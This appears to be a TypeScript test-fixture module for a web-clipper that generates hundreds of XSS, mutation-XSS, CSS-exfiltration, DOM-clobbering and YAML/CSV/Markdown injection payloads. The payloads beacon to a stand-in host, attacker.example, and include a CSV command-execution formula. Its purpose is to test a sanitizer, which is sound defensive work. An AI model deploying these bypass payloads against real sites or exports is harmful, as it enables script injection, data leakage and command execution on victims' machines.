/**
 * The hostile corpus: markup and text that a clipped page may carry, generated from a few
 * families of attack (written for Pressclip; the families follow the public literature on
 * sanitizer bypasses, see README.md here). Pure data; no file is read at run time.
 *
 * Every payload that could run script calls `pwn(<number>)`, and every payload that could leak
 * a request asks for `ATTACKER_ORIGIN/beacon/<number>`. The tests define `pwn` in every frame
 * and watch for the beacon, so a payload that runs or phones home names itself.
 */

export type HostileCategory =
  | 'script'
  | 'event-handler'
  | 'url-scheme'
  | 'mutation'
  | 'srcdoc'
  | 'css-exfiltration'
  | 'clobbering'
  | 'markup-misc'
  | 'export-injection';

export interface HostilePayload {
  /** `<category>-<n>`; n is the number the payload reports with `pwn(n)` or its beacon. */
  id: string;
  n: number;
  category: HostileCategory;
  /**
   * The payload as a page would carry it: inserted as markup into article bodies and captions,
   * and as a plain string into titles, bylines, meta tags and JSON-LD.
   */
  source: string;
}

/** Unroutable by design (RFC 2606); the end-to-end test intercepts it. */
export const ATTACKER_ORIGIN = 'http://attacker.example';

/** What a payload may use: the code that reports it, and its exfiltration address. */
interface Hooks {
  code: string;
  beacon: string;
}
type Template = (hooks: Hooks) => string;

const SCRIPTS: Template[] = [
  ({ code }) => `<script>${code}</script>`,
  ({ code }) => `<SCRIPT>${code}</SCRIPT>`,
  ({ code }) => `<ScRiPt type="text/javascript">${code}</sCrIpT>`,
  ({ code }) => `<script type="module">${code}</script>`,
  ({ code }) => `<script src="data:text/javascript,${code}"></script>`,
  ({ beacon }) => `<script src="${beacon}.js"></script>`,
  ({ code }) => `<script defer>${code}</script>`,
  ({ code }) => `<script>/*</script><script>*/${code}</script>`,
  ({ code }) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  ({ code }) => `<<script>script>${code}<</script>/script>`,
  ({ code }) => `<script\t\n>${code}</script\t>`,
  ({ code }) => `<script/x>${code}</script>`,
  ({ code }) => `<script>setTimeout(${JSON.stringify(code)})</script>`,
  ({ code }) => `<script>eval(atob(${JSON.stringify(btoa(code))}))</script>`,
  ({ code }) => `<svg><script xlink:href="data:text/javascript,${code}"></script></svg>`,
  ({ code }) => `<math><script>${code}</script></math>`,
];

/** Elements that fire an event on their own, each with its handler attribute. */
const HANDLER_CARRIERS: ((handler: (name: string) => string) => string)[] = [
  (h) => `<img src="x:broken" ${h('onerror')}>`,
  (h) => `<img src=x ${h('OnErRoR')}>`,
  (h) => `<img/src=x/${h('onerror')}>`,
  (h) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" ${h('onload')}>`,
  (h) => `<svg ${h('onload')}></svg>`,
  (h) => `<svg><animate ${h('onbegin')} attributeName="x" dur="1s"/></svg>`,
  (h) => `<svg><set ${h('onbegin')} attributeName="x" to="1"/></svg>`,
  (h) => `<body ${h('onload')}>`,
  (h) => `<body ${h('onpageshow')}>`,
  (h) => `<input autofocus ${h('onfocus')}>`,
  (h) => `<textarea autofocus ${h('onfocus')}></textarea>`,
  (h) => `<select autofocus ${h('onfocus')}></select>`,
  (h) => `<button autofocus ${h('onfocus')}>ok</button>`,
  (h) => `<div tabindex="0" autofocus ${h('onfocusin')}>Fokus</div>`,
  (h) => `<details open ${h('ontoggle')}><summary>Mehr</summary>Inhalt</details>`,
  (h) => `<video ${h('onerror')}><source src="x:broken"></video>`,
  (h) => `<video><source ${h('onerror')} src="x:broken"></video>`,
  (h) => `<audio src="x:broken" ${h('onerror')}></audio>`,
  (h) => `<iframe ${h('onload')}></iframe>`,
  (h) => `<object data="x:broken" ${h('onerror')}></object>`,
  (h) => `<style ${h('onload')}></style>`,
  (h) => `<marquee ${h('onstart')}>Laufschrift</marquee>`,
  (h) => `<div style="animation:spin 1s" ${h('onanimationstart')}>Drehung</div>`,
  (h) => `<a href="#" ${h('onclick')} ${h('onmouseover')}>Weiterlesen</a>`,
  (h) => `<p ${h('onpointerenter')} ${h('onmouseenter')}>Absatz mit Maus</p>`,
  (h) => `<form ${h('onsubmit')}><button>Senden</button></form>`,
];

/** How a handler's value is quoted (or written with entities, which the parser decodes). */
const HANDLER_QUOTES: ((name: string, code: string) => string)[] = [
  (name, code) => `${name}=${code}`,
  (name, code) => `${name}="${entities(code)}"`,
];

/** `javascript:` and its relatives, in the spellings browsers accept and naive filters miss. */
const SCHEMES: ((code: string) => string)[] = [
  (c) => `javascript:${c}`,
  (c) => `JaVaScRiPt:${c}`,
  (c) => `JAVASCRIPT:${c}`,
  (c) => ` javascript:${c}`,
  (c) => `&#9;javascript:${c}`,
  (c) => `java&#x09;script:${c}`,
  (c) => `java\nscript:${c}`,
  (c) => `jav&#x0D;ascript:${c}`,
  (c) => `&#106;avascript:${c}`,
  (c) => `&#x6A;&#x61;&#x76;&#x61;script:${c}`,
  (c) => `&#0000106&#0000097vascript:${c}`,
  (c) => `javascript&colon;${c}`,
  (c) => `javascript&#58;${c}`,
  (c) => `&#1;javascript:${c}`,
  (c) => `vbscript:${c}`,
  (c) => `data:text/html,&lt;script&gt;${c}&lt;/script&gt;`,
  (c) => `DaTa:text/html;base64,${btoa(`<script>${c}</script>`)}`,
  (c) => `data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${c}'/&gt;`,
  (c) => `data:text/javascript,${c}`,
];

/** Attributes that take an address. */
const URL_CARRIERS: ((url: string) => string)[] = [
  (u) => `<a href="${u}">Zum Bericht</a>`,
  (u) => `<img src="${u}" alt="Bild">`,
  (u) => `<iframe src="${u}"></iframe>`,
  (u) => `<embed src="${u}">`,
  (u) => `<object data="${u}"></object>`,
  (u) => `<form action="${u}"><button formaction="${u}">Abschicken</button></form>`,
  (u) => `<svg><a xlink:href="${u}"><text y="20">Grafik</text></a></svg>`,
  (u) => `<math href="${u}"><mi>x</mi></math>`,
];

const MUTATIONS: Template[] = [
  ({ code }) => `<svg><style><img src=x onerror=${code}></style></svg>`,
  ({ code }) => `<math><mtext><table><mglyph><style><img src=x onerror=${code}></style></mglyph></table></mtext></math>`,
  ({ code }) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${code}>`,
  ({ code }) => `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript>`,
  ({ code }) => `<svg></p><style><a id="</style><img src=1 onerror=${code}>"></svg>`,
  ({ code }) => `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${code} src=1>"></path></textarea></mtext></svg></mglyph></mi></math>`,
  ({ code }) => `<svg><desc><foreignObject><img src=x onerror=${code}></foreignObject></desc></svg>`,
  ({ code }) => `<svg><foreignObject><p><img src=x onerror=${code}></p></foreignObject></svg>`,
  ({ code }) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${code}></annotation-xml></math>`,
  ({ code }) => `<math><annotation-xml encoding="application/xhtml+xml"><style><img src=x onerror=${code}></style></annotation-xml></math>`,
  ({ code }) => `<svg><use href="data:image/svg+xml,&lt;svg id='u' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='x' onerror='${code}'/&gt;&lt;/svg&gt;#u"/></svg>`,
  ({ code }) => `<template><img src=x onerror=${code}></template>`,
  ({ code }) => `<template><script>${code}</script></template>`,
  ({ code }) => `<xmp><img src=x onerror=${code}></xmp>`,
  ({ code }) => `<noembed><img title="</noembed><img src=x onerror=${code}>"></noembed>`,
  ({ code }) => `<noframes><img title="</noframes><img src=x onerror=${code}>"></noframes>`,
  ({ code }) => `<iframe><img title="</iframe><img src=x onerror=${code}>"></iframe>`,
  ({ code }) => `<textarea><img title="</textarea><img src=x onerror=${code}>"></textarea>`,
  ({ code }) => `<title><img title="</title><img src=x onerror=${code}>"></title>`,
  ({ code }) => `<style><img title="</style><img src=x onerror=${code}>"></style>`,
  ({ code }) => `<!--<img src="--><img src=x onerror=${code}//">`,
  ({ code }) => `<svg><![CDATA[><img src=x onerror=${code}>]]></svg>`,
  ({ code }) => `<math><style><img src=x onerror=${code}></style></math>`,
  ({ code }) => `<svg><title><style><img src=x onerror=${code}></style></title></svg>`,
  ({ code }) => `<div><svg><p><style><img src=x onerror=${code}></style></p></svg></div>`,
  ({ code }) => `<select><template><style><img src=x onerror=${code}></style></template></select>`,
  ({ code }) => `<svg><a><set attributeName="href" to="javascript:${code}"/><text y="20">Klick</text></a></svg>`,
  ({ code }) => `<svg><a><animate attributeName="href" values="javascript:${code}"/><text y="20">Klick</text></a></svg>`,
  ({ code }) => `<math><maction actiontype="statusline" xlink:href="javascript:${code}">Formel</maction></math>`,
  ({ code }) => `<svg><image href="x:broken" onerror="${code}"/></svg>`,
  ({ code }) => `<table><caption><svg><style><img src=x onerror=${code}></style></svg></caption></table>`,
  ({ code }) => `<a title="<!--"><img src=x onerror=${code}>--></a>`,
  ({ code }) => `<svg><p><style><g title="</style><img src=x onerror=${code}>"></g></style></p></svg>`,
];

const SRCDOC: Template[] = [
  ({ code }) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  ({ code }) => `<iframe srcdoc="&lt;img src=x onerror=${code}&gt;"></iframe>`,
  ({ code }) => `<iframe srcdoc="&#60;script&#62;${code}&#60;/script&#62;"></iframe>`,
  ({ code }) => `<IFRAME SRCDOC="<svg onload=${code}>"></IFRAME>`,
  ({ code }) => `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>${code}</script>"></iframe>`,
  ({ code }) => `<iframe srcdoc="<iframe srcdoc='&amp;lt;script&amp;gt;${code}&amp;lt;/script&amp;gt;'></iframe>"></iframe>`,
  ({ code }) => `<iframe srcdoc="<meta http-equiv=refresh content='0;url=javascript:${code}'>"></iframe>`,
  ({ beacon }) => `<iframe srcdoc="<link rel=stylesheet href=${beacon}.css>"></iframe>`,
  ({ code }) => `<iframe allow="scripts" name="vorschau" srcdoc="<body onload=${code}>"></iframe>`,
  ({ code }) => `<frameset><frame src="javascript:${code}"></frameset>`,
  ({ code }) => `<portal src="data:text/html,&lt;script&gt;${code}&lt;/script&gt;"></portal>`,
  ({ code }) => `<svg><foreignObject><iframe srcdoc="<script>${code}</script>"></iframe></foreignObject></svg>`,
];

const CSS: Template[] = [
  ({ beacon }) => `<p style="background:url(${beacon}.png)">Hintergrund</p>`,
  ({ beacon }) => `<p style="background-image:url('${beacon}.png')">Hintergrund</p>`,
  ({ beacon }) => `<p style="background:u\\72l(${beacon}.png)">Maskiert</p>`,
  ({ beacon }) => `<p style="list-style-image:url(${beacon}.png)">Liste</p>`,
  ({ beacon }) => `<p style="behavior:url(${beacon}.htc)">Verhalten</p>`,
  ({ beacon }) => `<p style="-moz-binding:url(${beacon}.xml#x)">Bindung</p>`,
  ({ code }) => `<p style="width:expression(${code})">Ausdruck</p>`,
  ({ beacon }) => `<p style="background-image:image-set('${beacon}.png' 1x)">Bildsatz</p>`,
  ({ beacon }) => `<style>@import url(${beacon}.css);</style>`,
  ({ beacon }) => `<style>@import '${beacon}.css';</style>`,
  ({ beacon }) => `<style>p{background:url(${beacon}.png)}</style>`,
  ({ beacon }) => `<style>@font-face{font-family:leak;src:url(${beacon}.woff)}p{font-family:leak}</style>`,
  ({ beacon }) => `<style>input[value^="a"]{background:url(${beacon}.png)}</style><input value="abc">`,
  ({ beacon }) => `<link rel="stylesheet" href="${beacon}.css">`,
  ({ beacon }) => `<link rel="preload" href="${beacon}.png" as="image">`,
  ({ beacon }) => `<link rel="prefetch" href="${beacon}.html">`,
  ({ beacon }) => `<img src="${beacon}.png" alt="Zählpixel">`,
  ({ beacon }) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="${beacon}.png 1x" alt="">`,
  ({ beacon }) => `<picture><source srcset="${beacon}.webp"><img alt="Bild"></picture>`,
  ({ beacon }) => `<video poster="${beacon}.jpg"></video>`,
  ({ beacon }) => `<svg><image href="${beacon}.svg" width="10" height="10"/></svg>`,
  ({ beacon }) => `<table background="${beacon}.png"><tr><td>Zelle</td></tr></table>`,
  ({ beacon }) => `<input type="image" src="${beacon}.png" alt="Los">`,
  ({ beacon }) => `<a href="https://www.example.org/" ping="${beacon}.ping">Verweis mit Ping</a>`,
  ({ beacon }) => `<svg><style>@import url(${beacon}.css);</style></svg>`,
];

const CLOBBERING: Template[] = [
  () => `<img name="getElementById">`,
  () => `<form name="body"><input name="innerHTML"></form>`,
  () => `<img id="currentScript" name="currentScript">`,
  ({ beacon }) => `<a id="pwned" name="pwned" href="${beacon}.clobber">Anker</a>`,
  ({ code }) => `<form id="location"><input name="href" value="javascript:${code}"></form>`,
  () => `<img name="cookie">`,
  () => `<form><input name="attributes"><input name="nodeName"><input name="nodeType"></form>`,
  () => `<form id="defaultView"></form>`,
  () => `<embed name="activeElement">`,
  () => `<img name="createElement"><img name="importNode">`,
  () => `<a id="pwn" href="#">Gleichnamig</a>`,
  () => `<iframe name="parent"></iframe>`,
  () => `<img id="top" name="top">`,
  () => `<object name="implementation"></object>`,
  () => `<div id="DOMPurify">Nachbau</div>`,
  () => `<form name="documentElement"></form>`,
  () => `<img id="__proto__" name="constructor">`,
  () => `<a id="chrome" name="browser">Erweiterung</a>`,
];

const MISC: Template[] = [
  ({ code }) => `<base href="javascript:${code}//">`,
  ({ beacon }) => `<base href="${beacon}/">`,
  ({ code }) => `<meta http-equiv="refresh" content="3600;url=javascript:${code}">`,
  () => `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`,
  ({ beacon }) => `<form action="${beacon}.form" method="post"><input name="q" value="vertraulich"><button>Senden</button></form>`,
  ({ code }) => `<isindex action="javascript:${code}" type="image">`,
  ({ beacon }) => `<object type="text/html" data="${beacon}.html"></object>`,
  ({ code }) => `<embed type="image/svg+xml" src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/&gt;">`,
  ({ beacon }) => `<applet code="X" codebase="${beacon}/"></applet>`,
  ({ code }) => `"><script>${code}</script>`,
  ({ code }) => `'><img src=x onerror=${code}>`,
  ({ code }) => `{{constructor.constructor('${code}')()}}`,
  ({ code }) => `\${${code}}`,
  ({ code }) => `<%= ${code} %>`,
  ({ code }) => `<img src=x:alert onerror=${code}>`,
  ({ code }) => `<svg><a href="javascript:${code}"><circle r="40"/></a></svg>`,
  ({ code }) => `<a href="https://www.example.org/" target="_top" rel="opener" onclick="${code}">Neues Fenster</a>`,
  ({ code }) => `<div data-bind="html: ${code}" class="x">Bindung</div>`,
  ({ code }) => `<button popovertarget="p" onbeforetoggle="${code}">Menü</button><div id="p" popover>Popover</div>`,
  ({ code }) => `<link rel="import" href="data:text/html,&lt;script&gt;${code}&lt;/script&gt;">`,
  ({ code }) => `<keygen autofocus onfocus="${code}">`,
  ({ code }) => `<object><param name="src" value="javascript:${code}"></object>`,
];

/**
 * Strings aimed at the exports rather than the pages: YAML front matter, CSV cells and Markdown.
 * Most are harmless as HTML; they must come out of every export as the same text.
 */
const EXPORT_INJECTION: Template[] = [
  () => `Schlagzeile"\n---\nevil: true`,
  () => `title: eingeschleust`,
  () => `- Listeneintrag`,
  ({ code }) => `!!js/function 'function () { ${code} }'`,
  () => `&anker Wert *alias`,
  () => `<<: *merge`,
  () => `| Block\n  zeile`,
  () => `> gefaltet`,
  () => `# kein Kommentar`,
  () => `@erwähnt am Anfang`,
  () => `endet mit Backslash \\`,
  () => `Tab\tin der Mitte`,
  () => `Null\u0000zeichen und Glocke\u0007`,
  () => `Zeilen\u2028trenner und Absatz\u2029trenner`,
  () => `{"json": true, "x": [1, 2]}`,
  () => `[fluss, folge]`,
  () => `? komplexer Schlüssel`,
  () => `%YAML 1.1`,
  ({ code }) => `---js\n${code}\n---`,
  () => `~`,
  () => `null`,
  () => `yes`,
  () => `0x1F`,
  () => `2026-11-26`,
  () => `'einfach' und "doppelt" zitiert`,
  ({ beacon }) => `=HYPERLINK("${beacon}.csv","Klick")`,
  () => `+1+1`,
  () => `-2+3`,
  () => `@SUM(A1:A2)`,
  () => `\t=1+1`,
  () => `\r=1+1`,
  () => `=cmd|' /C calc'!A0`,
  () => `Spalte; mit, Trennern`,
  () => `"ganz in Anführungszeichen"`,
  () => `mehrere\nZeilen\r\nim Feld`,
  ({ code }) => `[Klick](javascript:${code})`,
  ({ code }) => `![Bild](data:text/html,<script>${code}</script>)`,
  ({ code }) => `[Ref][r]\n\n[r]: javascript:${code}`,
  ({ code }) => `<javascript:${code}>`,
  () => '`Code` und ```Zaun```',
  () => `**fett** _kursiv_ ~~durch~~`,
  () => `| Tabelle | Zelle |\n| --- | --- |`,
  () => `\\<script> maskiert`,
  () => `1. nummeriert`,
  () => `Ümläute, ß, „Anführung“, €, 東京, مرحبا, 🙂`,
  () => `\u202Egnirts desrever`,
];

function entities(text: string): string {
  return [...text].map((ch) => (/[a-z0-9]/i.test(ch) ? `&#${ch.charCodeAt(0)};` : ch)).join('');
}

/** Every template once, numbered; the number goes into `pwn(n)` and the beacon address. */
function build(): HostilePayload[] {
  const families: [HostileCategory, Template[]][] = [
    ['script', SCRIPTS],
    [
      'event-handler',
      HANDLER_CARRIERS.flatMap((carrier) => HANDLER_QUOTES.map((quote): Template => ({ code }) => carrier((name) => quote(name, code)))),
    ],
    ['url-scheme', SCHEMES.flatMap((scheme) => URL_CARRIERS.map((carrier): Template => ({ code }) => carrier(scheme(code))))],
    ['mutation', MUTATIONS],
    ['srcdoc', SRCDOC],
    ['css-exfiltration', CSS],
    ['clobbering', CLOBBERING],
    ['markup-misc', MISC],
    ['export-injection', EXPORT_INJECTION],
  ];
  const payloads: HostilePayload[] = [];
  for (const [category, templates] of families) {
    for (const template of templates) {
      const n = payloads.length + 1;
      payloads.push({ id: `${category}-${n}`, n, category, source: template({ code: `pwn(${n})`, beacon: `${ATTACKER_ORIGIN}/beacon/${n}` }) });
    }
  }
  return payloads;
}

export const HOSTILE_PAYLOADS: readonly HostilePayload[] = build();
